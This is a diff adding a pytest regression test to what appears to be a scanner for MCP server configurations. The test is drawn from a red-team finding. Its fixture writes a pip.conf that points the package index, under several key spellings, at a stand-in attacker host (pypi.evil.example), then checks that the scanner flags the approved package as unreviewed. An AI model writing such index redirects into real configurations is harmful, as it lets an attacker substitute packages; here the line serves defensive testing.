@@ -1050,6 +1050,18 @@ def _judged_on(machine, folder) -> dict:
     return {f.item.name: f for f in scan(machine, read_pack(folder)[0]).surface.servers}
 
 
+@pytest.mark.parametrize("key", ["--index-url", "index_url", "--extra_index_url", "Find_Links"])
+def test_a_pip_conf_key_is_read_in_every_spelling_pip_takes(machine_factory, tmp_path, key):
+    """Red team: `--index-url = ...` in pip.conf (pip takes a leading `--`, and `_` for `-`) left an approved
+    name approved, fetched from that index."""
+    extra = '\n[[mcp.rules]]\nmatch = { pypi = "mcp-server-git" }\nstatus = "approved"\n'
+    m = machine_factory("linux")
+    m.write_json(m.h(".cursor/mcp.json"), {"mcpServers": {"git": {"command": "uvx", "args": ["mcp-server-git"]}}})
+    m.write(m.h(".config/pip/pip.conf"), f"[install]\n{key} = https://pypi.evil.example/simple\n")
+    found = _judged(m, _pack_copy(tmp_path, extra))["git"]
+    assert found.verdict == "unreviewed" and found.item.extra_packages == (("index", "pypi.evil.example", None),)
+
+
 @pytest.mark.parametrize(
     "section,message",
     [
